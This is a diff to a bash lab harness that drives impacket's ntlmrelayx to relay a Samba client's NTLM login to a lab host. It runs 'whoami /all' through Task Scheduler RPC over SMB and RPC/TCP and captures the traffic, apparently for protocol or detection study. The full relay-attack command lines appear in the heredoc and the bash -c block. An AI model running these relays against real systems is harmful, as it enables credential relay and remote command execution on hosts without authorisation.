@@ -138,29 +138,35 @@ imp013_ensure() {
 # TSCH attack (--rpc-attack TSCH: register, run, poll, delete over \pipe\atsvc, no RPC auth). The victim is
 # Samba's smbclient logging in to the relay as LAB\alice; that login stays inside the client namespace, so the
 # capture (on the server's veth) holds only what the relay sends the lab.
+# relay013 NAME TARGET TRANSPORT AUTH_LEVEL RPC_AUTH ATTACK-OPTIONS...: TARGET smb://… with --rpc-attack TSCH, or
+# rpc://… (-rpc-mode TSCH: ept_map, then the relayed NTLM in the bind on ncacn_ip_tcp at level CONNECT, and a
+# call to opnum 255 with an empty stub before the task calls: the relay's own check that the bind took).
+# PROBE=1: expect that opnum 255 call (the lab faults it nca_s_op_rng_error).
 relay013() {
-	local name=$1
+	local name=$1 target=$2 transport=$3 level=$4 rpcauth=$5; shift 5
 	imp013_ensure
 	apt_ensure smbclient
-	"$PY" - "$WORK/client.json" "$IMP013/bin/ntlmrelayx.py" <<-'EOF'
-	import json, sys, hashlib
+	PROBE=${PROBE:-0} "$PY" - "$WORK/client.json" "$IMP013/bin/ntlmrelayx.py" "$target" "$transport" "$level" "$@" <<-'EOF'
+	import json, os, sys, hashlib
+	ops = ["SchRpcRegisterTask", "SchRpcRun", "SchRpcGetLastRunInfo", "SchRpcDelete"]
 	json.dump({"tool": "impacket 0.13.1 examples/ntlmrelayx.py (virtualenv, unmodified, run as a program); victim: "
 	                   "Samba smbclient logging in to the relay as LAB\\alice",
 	           "ntlmrelayx_sha256": hashlib.sha256(open(sys.argv[2], "rb").read()).hexdigest(),
-	           "argv": ["ntlmrelayx.py", "-t", "smb://10.77.0.2", "-smb2support", "--rpc-attack", "TSCH", "-c",
-	                    "whoami /all", "-ip", "10.77.0.1", "--no-multirelay", "(every relay server but SMB off)"],
-	           "auth_level": 1, "transport": "ncacn_np:\\pipe\\atsvc", "interface": "ITaskSchedulerService",
+	           "argv": ["ntlmrelayx.py", "-t", sys.argv[3], "-smb2support"] + sys.argv[6:] + ["-c", "whoami /all",
+	                    "-ip", "10.77.0.1", "--no-multirelay", "(every relay server but SMB off)"],
+	           "auth_level": int(sys.argv[5]), "transport": sys.argv[4], "interface": "ITaskSchedulerService",
 	           "user": "alice", "domain": "LAB", "operator_command": "whoami /all",
 	           "expect_command": "cmd.exe", "expect_arguments": "/C whoami /all",
-	           "op_sequence": ["SchRpcRegisterTask", "SchRpcRun", "SchRpcGetLastRunInfo", "SchRpcDelete"]},
+	           "op_sequence": (["unsupported"] if os.environ["PROBE"] == "1" else []) + ops},
 	          open(sys.argv[1], "w"))
 	EOF
-	CLIENT_IS_JSON=0 capture "$name" '{"rpc_auth": "none (auth_level 1): the relayed NTLM login is the SMB session setup; the bind has no sec_trailer"}' \
+	CLIENT_IS_JSON=0 capture "$name" "{\"rpc_auth\": \"$rpcauth\"}" \
 		bash -c '
-		py=$1 relay=$2 target=$3 ip=$4 who=$5 log=$6
+		py=$1 relay=$2 target=$3 ip=$4 who=$5 log=$6; shift 6
 		# ntlmrelayx reads console commands from stdin and ends at its EOF: give it one that never ends.
-		mkfifo "$log.in" && exec 3<>"$log.in"
-		"$py" "$relay" -t "smb://$target" -smb2support --rpc-attack TSCH -c "whoami /all" -ip "$ip" --no-multirelay \
+		rm -f "$log" "$log.in"
+		mkfifo "$log.in" && exec 3<>"$log.in" || exit 1
+		"$py" "$relay" -t "$target" -smb2support "$@" -c "whoami /all" -ip "$ip" --no-multirelay \
 			--no-http-server --no-wcf-server --no-raw-server --no-rpc-server --no-winrm-server --no-mssql-server \
 			--no-rdp-server <&3 >"$log" 2>&1 &
 		pid=$!
@@ -169,8 +175,8 @@ relay013() {
 		for _ in $(seq 150); do grep -q "Completed!" "$log" && break; sleep 0.1; done
 		kill "$pid"; wait "$pid"
 		cat "$log"
-		grep -q "Completed!" "$log"' _ "$IMP013/bin/python" "$IMP013/bin/ntlmrelayx.py" "$IP_S" "$IP_C" \
-		"$DOMAIN/$USER_%$PASSWORD" "$WORK/relay.log"
+		grep -q "Completed!" "$log"' _ "$IMP013/bin/python" "$IMP013/bin/ntlmrelayx.py" "$target" "$IP_C" \
+		"$DOMAIN/$USER_%$PASSWORD" "$WORK/relay.log" "$@"
 	"$PY" - "$OUT/$name.json" "$WORK/client.out" <<-'EOF'
 	import json, sys
 	f = json.load(open(sys.argv[1]))
@@ -280,7 +286,14 @@ main() {
 		imp013_ensure
 		PY_CLIENT="$IMP013/bin/python" ATEXEC_ARG="$IMP013/bin/atexec.py" client_capture impacket013-atexec-smb1 atexec-smb1 '{"rpc_auth": "NTLMSSP, auth_level 6 (packet privacy): stubs sealed", "smb_rpc_commands": "Write AndX / Read AndX"}'
 	fi
-	if want impacket013-ntlmrelayx-tsch-smb2 ; then relay013 impacket013-ntlmrelayx-tsch-smb2; fi
+	if want impacket013-ntlmrelayx-tsch-smb2 ; then
+		relay013 impacket013-ntlmrelayx-tsch-smb2 "smb://$IP_S" 'ncacn_np:\pipe\atsvc' 1 \
+			'none (auth_level 1): the relayed NTLM login is the SMB session setup; the bind has no sec_trailer' --rpc-attack TSCH
+	fi
+	if want impacket013-ntlmrelayx-tsch-tcp ; then
+		PROBE=1 relay013 impacket013-ntlmrelayx-tsch-tcp "rpc://$IP_S" "ncacn_ip_tcp:$TCP_PORT" 2 \
+			'NTLMSSP, auth_level 2 (connect): the relayed NTLM login in the bind and auth3' -rpc-mode TSCH
+	fi
 	du -ch "$OUT"/*.pcap | tail -1
 }
 
